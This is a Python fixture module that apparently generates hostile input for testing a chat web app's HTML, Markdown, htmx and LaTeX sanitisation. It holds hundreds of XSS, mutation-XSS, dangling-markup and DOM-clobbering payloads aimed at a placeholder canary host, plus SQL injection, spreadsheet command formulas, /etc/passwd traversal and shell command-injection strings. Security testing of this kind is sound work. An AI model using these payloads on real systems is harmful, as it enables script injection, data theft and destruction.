"""Hostile text. A payload that works sets `window.hit`, changes the title or sends a request to CANARY."""

from __future__ import annotations

import base64
from itertools import product

CANARY = "canary.invalid"  # stands for the address of a server that must receive no request
ACT = "window.hit=1;document.title='hit'"

# Elements that load something, and elements with event handlers.
_SOURCES = ["img", "audio", "video", "source", "track", "embed", "iframe", "frame", "input type=image", "script"]
_HANDLERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload onpageshow onhashchange onfocus",
    "input autofocus": "onfocus onblur oninput",
    "details open": "ontoggle",
    "video src=x": "onerror onloadstart",
    "audio src=x": "onerror",
    "marquee": "onstart onfinish",
    "div style=animation-name:x": "onanimationstart ontransitionend onwheel onscroll onpointerenter onclick",
    "iframe src=about:blank": "onload",
    "object data=x": "onerror onload",
    "link rel=stylesheet href=x": "onload onerror",
    "style": "onload onerror",
    "form": "onsubmit onreset onformdata",
    "button autofocus": "onfocus onbeforetoggle",
    "select autofocus": "onfocus onchange",
    "textarea autofocus": "onfocus onselect",
    "p contenteditable": "onpaste onbeforeinput oncontentvisibilityautostatechange",
    "dialog open": "onclose oncancel",
    "xss tabindex=1 autofocus": "onfocus",
}
HANDLERS = [f"<{tag} {on}={ACT}>" for tag, names in _HANDLERS.items() for on in names.split()]
LOADS = [
    *(f"<{tag} src=http://{CANARY}/{tag.split()[0]}>" for tag in _SOURCES),
    *(f"<{tag} src=//{CANARY}/{tag.split()[0]}-relative>" for tag in _SOURCES),
    f"<link rel=stylesheet href=http://{CANARY}/css>",
    *(f"<link rel={rel} href=http://{CANARY}/{rel}>" for rel in ("icon", "preload as=image", "prefetch", "manifest")),
    *(f"<link rel={rel} href=http://{CANARY}/{rel}>" for rel in ("preconnect", "dns-prefetch", "modulepreload")),
    f"<img srcset='http://{CANARY}/srcset 1x'>",
    f"<picture><source srcset=http://{CANARY}/picture><img></picture>",
    f"<object data=http://{CANARY}/object></object>",
    f"<video poster=http://{CANARY}/poster></video>",
    f"<body background=http://{CANARY}/body>",
    f"<table background=http://{CANARY}/table><td background=http://{CANARY}/td>",
    f"<div style='background:url(http://{CANARY}/style)'>",
    f"<style>@import 'http://{CANARY}/import';</style>",
    f"<style>*{{background:url(http://{CANARY}/all)}}</style>",
    f"<svg><image href=http://{CANARY}/svg /></svg>",
    f"<svg><use href=http://{CANARY}/use#x /></svg>",
    f"<svg><feImage href=http://{CANARY}/feimage /></svg>",
    f"<svg><style>@import 'http://{CANARY}/svgstyle'</style></svg>",
    f"<meta http-equiv=refresh content='0;url=http://{CANARY}/refresh'>",
    "<meta http-equiv=set-cookie content=hit=1><meta name=referrer content=unsafe-url>",
    f"<base href=http://{CANARY}/>",
    f"<a href=http://{CANARY}/ping ping=http://{CANARY}/pinged>x</a>",
    f"<form action=http://{CANARY}/form><button autofocus>x</button></form>",
    f"<isindex action=http://{CANARY}/isindex>",
    f"<frameset><frame src=http://{CANARY}/frameset></frameset>",
    f"<iframe srcdoc='<img src=http://{CANARY}/srcdoc>'></iframe>",
    f"<portal src=http://{CANARY}/portal></portal>",
    f"<applet archive=http://{CANARY}/applet></applet>",
    f"<bgsound src=http://{CANARY}/bgsound>",
    f"<xml src=http://{CANARY}/xml></xml>",
    f"<?xml-stylesheet href='http://{CANARY}/pi'?>",
    f"<!DOCTYPE x SYSTEM 'http://{CANARY}/dtd'>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["http://{CANARY}/spec"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"x":"http://{CANARY}/map"}}}}</script>',
]
SCRIPTS = [
    f"<script>{ACT}</script>",
    f"<SCRIPT>{ACT}</SCRIPT >",
    f"<script\t>{ACT}</script\n>",
    f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</style></noscript></template><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"'\"><script>{ACT}</script>",
    f'\\"><script>{ACT}</script>',
    f"\x3cscript\x3e{ACT}\x3c/script\x3e",
    f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{ACT}&#x3c/script&#x3e",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"<script src=data:text/javascript,{ACT}></script>",
    f"<script type=module>{ACT}</script>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href=data:text/javascript,{ACT} /></svg>",
    f"<math><script>{ACT}</script></math>",
    f"<template><script>{ACT}</script></template>",
    f"<template shadowrootmode=open><script>{ACT}</script></template>",
    f"<noscript><script>{ACT}</script></noscript>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{ACT}'></iframe>",
    f"<object data='javascript:{ACT}'></object>",
    f"<embed src='javascript:{ACT}'>",
    f"<object data='data:text/html;base64,{base64.b64encode(f'<script>parent.{ACT}</script>'.encode()).decode()}'>",
    "{{constructor.constructor('" + ACT.replace("'", "`") + "')()}}",
    "${" + ACT + "}",
    "{% raw %}{{ 7 * 7 }}{% endraw %} {{ config }} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }} {% include 'page.html' %} {# x #}",
]
# HTML that parsers disagree on, or that changes when it is parsed a second time.
MUTATIONS = [
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror={ACT} src>'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={ACT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<svg><foreignObject><body onload={ACT}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={ACT}></desc></svg>",
    f"<svg><title><img src=x onerror={ACT}></title></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{ACT}><a><text>x",
    f"<svg><a><animate attributeName=href values=javascript:{ACT} /><text>x</text></a></svg>",
    f"<math href=javascript:{ACT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{ACT}>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={ACT}></annotation-xml></math>",
    f"<select><template><img src=x onerror={ACT}></template></select>",
    f"<select><style></select><img src=x onerror={ACT}></style>",
    f"<table><tr><td><style></td><img src=x onerror={ACT}></style>",
    f"<textarea></textarea><img src=x onerror={ACT}>",
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<plaintext><img src=x onerror={ACT}>",
    f"<listing>&lt;img src=x onerror={ACT}&gt;</listing>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--!><img src=x onerror={ACT}>--!>",
    f"<![CDATA[<img src=x onerror={ACT}>]]>",
    f"<?x <img src=x onerror={ACT}>?>",
    f"<a title='&quot;><img src=x onerror={ACT}>'>",
    f"<a title=`><img src=x onerror={ACT}>`>",
    f"<p id='a\"><img src=x onerror={ACT}>'>",
    f"<img src=x\x00onerror={ACT}>",
    f"<img\x0csrc=x\x0conerror={ACT}>",
    f"<img/src=x/onerror={ACT}>",
    f"<img src='x'onerror={ACT}>",
    f"<img src=x onerror\t=\n{ACT}>",
    f"<image src=x onerror={ACT}>",
    f"<a\u2028href=x\u2029onclick={ACT}>x</a>",
    f"<im\u200bg src=x onerror={ACT}>",
    f"<ımg src=x onerror={ACT}><ſvg onload={ACT}>",
]
# Unclosed markup, which would swallow what follows on the page.
DANGLING = [
    f"<img src='http://{CANARY}/dangling?",
    f'<img src="http://{CANARY}/dangling?',
    f"<img src=`http://{CANARY}/dangling?",
    f"<a href='http://{CANARY}/dangling?",
    f"<form action='http://{CANARY}/dangling'><textarea name=x>",
    f"<meta http-equiv=refresh content='0; http://{CANARY}/dangling?",
    *("<base target='", "<!--", "<![CDATA[", "<?php", "<textarea>", "<title>", "<style>", "<script>", "<xmp>"),
    *("<plaintext>", "<noscript>", "<template>", "<select>", "<svg>", "<math>", "<table>", "<button>"),
    *("<a href=/rooms>", "<details open>", "<dialog open>", "<p style='"),
    "</div></div></article></div></section></main></body></html>",
    "</p></pre></code></span></li></ul></details></article>",
    "</span></a></li></ul></nav>",
    *('"', "'", "`", '">', "'>", "\\", "&", "&#", "&#x", "<", "</", "<!", "<?", ">", "]]>", "-->"),
]
# Attributes and elements of htmx, and attributes that the page's own scripts react to.
_HX = (
    "get post put patch delete ws:connect sse:connect boost on:click swap-oob select-oob trigger vals headers ext "
    "confirm include push-url replace-url target select preserve prompt sync indicator encoding history-elt ignore"
)
_DATA = (
    "data-dismiss data-copy data-wrap data-unfold data-edit data-rename-room data-print data-copy-message "
    "data-copy-link data-cancel data-stop data-clear data-delete "
    "data-open-drawer data-close-drawer data-yes=hit data-own data-theme-choice=dark data-rename=/rooms "
    "data-countdown=0 data-press='#new-room' data-room=x"
)
HTMX = [
    *(f"<div hx-{name}=/rooms hx-trigger=load>x</div>" for name in _HX.split()),
    *(f"<div data-hx-{name}='js:{ACT}'>x</div>" for name in _HX.split()[:12]),
    "<hx-partial hx-target='#sidebar' hx-swap=innerHTML>hit</hx-partial>",
    "<hx-partial hx-target='body'>hit</hx-partial>",
    "</hx-partial><hx-partial hx-target='#room' hx-swap='delete'></hx-partial>",
    "<template hx type=partial hx-target='#header'>hit</template>",
    "<template hx-partial hx-target='#composer' hx-swap=outerHTML>hit</template>",
    "<hx-swap target='#room'>hit</hx-swap>",
    "<hx-redirect url=/>",
    "<div id=header hx-swap-oob=true>hit</div>",
    "<div id=composer hx-swap-oob=delete></div>",
    "<div hx-swap-oob='innerHTML:#rooms'>hit</div>",
    "<title>hit</title>",
    "<head><title>hit</title></head>",
    "<html data-theme=hit><body data-live=hit data-drawer=open>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    f"<div hx-on::after:init='{ACT}'>x</div>",
    f"<div hx-on='htmx:load: {ACT}'>x</div>",
    f'<div hx-config=\'{{"action":"http://{CANARY}/hx"}}\' hx-trigger=load>x</div>',
    f"<div hx-get=http://{CANARY}/hx hx-trigger=load>x</div>",
    f"<div hx-ws:connect=ws://{CANARY}/ws>x</div>",
    f"<script hx-eval>{ACT}</script>",
    *(f"<button {name} autofocus>hit</button>" for name in _DATA.split()),
]
# Ids, names and classes that the page itself uses.
_IDS = (
    "room rooms rooms-place header messages message-1 message-2 after-2 part-2-0 part-2-0-open part-2-0-done composer "
    "error connection announcer confirm confirm-question rename edit palette keys sidebar filter scroller end newer"
)
_GLOBALS = "htmx body head title cookie forms store tabStore getElementById location"
_CLASSES = [
    *("message message--user", "message__body", "message__state", "open", "open__foot", "composer", "header", "dialog"),
    *("error", "connection", "notices", "sidebar", "row", "row__link", "row__name", "unseen", "skip", "menu__items"),
    *("code", "code__bar", "code__button", "button button--primary", "part part--text", "palette", "icon icon--send"),
]
CLOBBERS = [
    *(f"<a id={name} name={name} href=x>hit</a>" for name in _IDS.split()),
    *(
        f"<form name={name}><input name=attributes><input name=action></form><img name={name}>"
        for name in _GLOBALS.split()
    ),
    *(f"<div class='{name}'>hit</div>" for name in _CLASSES),
    "<slot name=x></slot><div slot=x part=y is=x-y itemid=x role=alert accesskey=x tabindex=-1>hit</div>",
    "<div popover popovertarget=rename inert hidden contenteditable draggable=true>hit</div>",
    "<button popovertarget=rename command=show-modal commandfor=confirm form=composer formaction=/rooms>hit</button>",
    "<input form=composer name=text value=hit><label for=filter>hit</label><output form=composer>",
]
# URLs, in every Markdown syntax for links and images.
_SCHEMES = [
    *("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "javascript\u200b", "vbscript"),
    *("data", "blob", "file", "filesystem", "view-source", "feed", "jar", "ms-word", "intent", "ws", "chrome", "about"),
]
ADDRESSES = [
    *(f"{scheme}:{ACT}" for scheme in _SCHEMES),
    f"javascript://x/%0a{ACT}",
    f"&#106;avascript:{ACT}",
    f"&#x6A;avascript&colon;{ACT}",
    f"javascript&#58;{ACT}",
    f"java&Tab;script:{ACT}",
    f"java&NewLine;script:{ACT}",
    f"\\j\\a\\vascript:{ACT}",
    f"%6aavascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"data:text/html;base64,{base64.b64encode(b'<script>hit</script>').decode()}",
    f"data:image/svg+xml,<svg onload={ACT}>",
    f"http://{CANARY}/a.png",
    f"//{CANARY}/b.png",
    f"\\\\{CANARY}\\c.png",
    f"/\\{CANARY}/d.png",
    f"http:{CANARY}/e.png",
    f"https://user:secret@{CANARY}/f.png",
    f'http://{CANARY}/" onerror="{ACT}',
    f"http://{CANARY}/' onmouseover='{ACT}",
    f"http://{CANARY}/?<script>{ACT}</script>",
    "#room",
    "#message-1",
    "#composer",
    "?q=hit",
    "/rooms",
    "../static/app.js",
]
_FORMS = ["[x]({})", "[x](<{}>)", "![x]({})", "[![x]({})]({})", "<{}>", "[x]: {}\n\n[x] ![x]", '[x](/a "{}")', "{}"]
LINKS = [form.replace("{}", address) for form, address in product(_FORMS, ADDRESSES)]
# Markup inside Markdown syntax.
_TRICKS = [f"<img src=x onerror={ACT}>", f'" onclick="{ACT}', "' class='message", "</code></pre><script>hit</script>"]
_PLACES = [
    *("```{}\ncode\n```", "~~~ {}\n{}\n~~~", "`{}`", "    {}", "# {}", "- [x] {}", "> {}", "|{}|\n|:-:|\n|{}|"),
    *("|a|\n|:-{}|\n|b|", "**{}**", "~~{}~~", "[{}]: /x '{}'\n\n[{}]", "1{}. x", "\\{}", "[^{}]: x\n\n[^{}]"),
    *("```html {}\n{}\n```", "{}\n==="),
]
MARKS = [place.replace("{}", trick) for place, trick in product(_PLACES, _TRICKS)]
# Invisible and direction-changing characters, control characters, and payloads for other interpreters.
INVISIBLE = [
    *(
        f"a{chr(code)}<b onclick={ACT}>c{chr(code)}d"
        for code in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x180E)
    ),
    *(
        f"{chr(code)}evil{chr(code)} txt.exe"
        for code in (0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x200F)
    ),
    *(
        f"a{chr(code)}b"
        for code in (0, 1, 7, 8, 0x0B, 0x0C, 0x1B, 0x7F, 0x85, 0x9B, 0x2028, 0x2029, 0xFFF9, 0xFFFE, 0xFFFF)
    ),
    "".join(chr(0xE0000 + ord(letter)) for letter in "<script>"),
    "a" + "\u0301" * 200 + "b",
    "\u202e" * 50 + "x" + "\u2066" * 50,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\x1b[2J\x1b]0;hit\x07\x1b[31m",
    "Set-Cookie: hit=1\r\nX: y\r\n\r\n<html>hit",
    "\ufeff<script>hit</script>",
    "' OR 1=1; DROP TABLE rooms; --",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd\0.png",
    "%s%n%x {0.__class__} %(x)s $(id) `id` ;id |id",
]

# Formulas, footnotes, alerts and the HTML that Markdown may contain.
_LATEX = [
    *(
        rf"\text{{<svg/onload={ACT}>}}",
        rf"\text{{</mtext></math><img src=x onerror={ACT}>}}",
        rf"\href{{javascript:{ACT}}}{{x}}",
    ),
    *(
        r"\class{message}{x}",
        rf"\style{{background:url(http://{CANARY}/tex)}}{{x}}",
        r"\cssId{room}{x}",
        r"\htmlId{composer}{x}",
    ),
    *(r"\begin{align}x\label{room}\end{align}", r"\eqref{composer}", rf"\includegraphics{{http://{CANARY}/tex.png}}"),
    *(
        r"\htmlData{hx-get=/rooms}{x}",
        r"\unicode{x3c}script",
        r"\color{red;position:fixed}x",
        r"\hspace{99999em}x",
    ),
    *(
        f"<annotation-xml encoding='text/html'><img src=x onerror={ACT}></annotation-xml>",
        f"<maction xlink:href=javascript:{ACT}>x",
    ),
    *(
        f"</annotation></semantics></math><script>{ACT}</script>",
        f'\\text{{" onclick="{ACT}}}',
        r"\def\x{\x\x}\x",
        "{" * 60,
    ),
]
_FORMULAS = [
    r"\({}\)",
    "$${}$$",
    "\\[\n{}\n\\]",
    "${}$",
    "\\begin{{align}}\n{}\n\\end{{align}}".replace("{{", "{").replace("}}", "}"),
]
EXTENSIONS = [
    *(form.replace("{}", latex) for form, latex in product(_FORMULAS, _LATEX)),
    *(f"<{tag}><img src=x onerror={ACT}></{tag}>" for tag in ("kbd", "sub", "sup", "details", "summary")),
    *(
        f"<{tag} {on}={ACT} id=room class=message>x</{tag}>"
        for tag in ("kbd", "details", "br")
        for on in ("onclick", "ontoggle")
    ),
    *(
        "<details open ontoggle=window.hit=1>",
        "<details>\n<summary></details></summary>",
        "</details></details></article>",
    ),
    *(
        "<details>\n<summary><details></summary>\n</details>\n\n</div>\n</details>",
        "<sub><sup></sub></sup></kbd>",
        "<kbd>" * 30,
    ),
    *(
        f"<details>\n<summary><script>{ACT}</script></summary>\n\n<title>hit</title>\n</details>",
        "<details id=room open=x>\n\n</details>",
    ),
    *(
        f"x[^{label}]\n\n[^{label}]: {label}"
        for label in ("<svg/onload=window.hit=1>", '"onclick="x', "room", "message-1", "'", "__proto__")
    ),
    *(f"> [!{name}]\n> x" for name in ('NOTE" onclick="x', "<b>", "message", "TIP]<img src=x>")),
    *(f"http://{CANARY}/{end}" for end in ('"onmouseover="x', "'><script>hit</script>", "<b>", "`${ACT}`")),
    *(
        'www."onclick=x.a',
        'a@b.c"onclick=x',
        'localhost:80/"onclick=x',
        f"[x](sandbox:{ACT})",
        f"[<b>](tel:<b>{ACT})",
        "[x](#room)",
    ),
]

BY_VECTOR = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "loads": LOADS,
    "mutations": MUTATIONS,
    "dangling": DANGLING,
    "htmx": HTMX,
    "clobbers": CLOBBERS,
    "links": LINKS,
    "marks": MARKS,
    "invisible": INVISIBLE,
    "extensions": EXTENSIONS,
}
PAYLOADS = list(dict.fromkeys(payload for payloads in BY_VECTOR.values() for payload in payloads))
